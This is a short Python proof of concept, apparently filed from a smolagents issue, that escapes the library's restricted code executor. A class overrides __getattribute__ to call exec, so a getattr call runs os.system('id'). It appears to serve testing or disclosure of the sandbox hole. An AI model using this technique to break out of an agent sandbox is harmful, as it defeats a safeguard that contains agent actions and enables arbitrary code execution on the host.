# Source: https://github.com/huggingface/smolagents/issues/2395 (unrestricted dunder methods in class definitions)
# Family: getattribute
# What: a class defining __getattribute__ turns every attribute read into exec
class G:
    def __getattribute__(self, name):
        return exec(name.replace("_", " "))

g = G()
getattr(g, "import os;os.system('id')")
